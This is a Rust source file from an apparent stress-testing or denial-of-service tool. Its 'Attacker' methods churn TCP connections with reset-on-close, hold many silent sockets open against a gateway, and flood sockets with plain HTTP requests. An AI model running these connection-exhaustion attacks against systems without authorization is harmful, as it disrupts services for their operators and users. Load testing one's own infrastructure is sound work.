//! Attacks below WebSockets.

use std::io::{self, ErrorKind, Write};
use std::net::TcpStream;
use std::time::Duration;

use socket2::SockRef;

use super::payload::plain_requests;
use super::{Attacker, PATIENCE, PAUSE};

impl Attacker {
    /// Opens and closes sockets one after the other. A reset leaves no port in TIME_WAIT.
    pub(super) fn churn(&self) -> io::Result<()> {
        while !self.is_over() {
            let stream = TcpStream::connect_timeout(&self.address, PATIENCE)?;
            SockRef::from(&stream).set_linger(Some(Duration::ZERO))?;
            self.count_hit();
        }
        Ok(())
    }

    /// Keeps `count` sockets open and sends nothing; replaces those that the gateway closes.
    pub(super) fn silent(&self, count: usize) -> io::Result<()> {
        let mut sockets = Vec::new();
        while !self.is_over() {
            while sockets.len() < count && !self.is_over() {
                sockets.push(self.connected()?);
                if sockets.len() == count {
                    self.count_hit();
                }
            }
            sockets.retain_mut(|stream| self.receive(stream, &[]).is_ok());
            std::thread::sleep(PAUSE);
        }
        Ok(())
    }

    pub(super) fn requests(&self, count: usize) -> io::Result<()> {
        self.all_send(count, || self.connected(), &plain_requests(), b"HTTP/1.1 200")
    }

    /// Opens `count` sockets. Then all send `bytes` and are read until they are closed. An answer with `sign` is a hit.
    pub(super) fn all_send(
        &self,
        count: usize,
        open: impl Fn() -> io::Result<TcpStream>,
        bytes: &[u8],
        sign: &[u8],
    ) -> io::Result<()> {
        let mut sockets = Vec::new();
        for _ in 0..count {
            let stream = open()?;
            stream.set_nonblocking(true)?;
            sockets.push((stream, 0));
            if self.is_over() {
                return Ok(());
            }
        }
        while !sockets.is_empty() && !self.is_over() {
            sockets.retain_mut(|(stream, at)| {
                let is_open = send_more(stream, bytes, at).is_ok();
                self.receive(stream, sign).is_ok() && is_open
            });
            std::thread::sleep(PAUSE);
        }
        Ok(())
    }

    fn connected(&self) -> io::Result<TcpStream> {
        let stream = TcpStream::connect_timeout(&self.address, PATIENCE)?;
        stream.set_nonblocking(true)?;
        Ok(stream)
    }
}

/// Writes until the socket is full.
fn send_more(stream: &mut TcpStream, bytes: &[u8], at: &mut usize) -> io::Result<()> {
    match stream.write(&bytes[*at..]) {
        Ok(len) => *at += len,
        Err(error) if error.kind() == ErrorKind::WouldBlock => {}
        Err(error) => return Err(error),
    }
    Ok(())
}
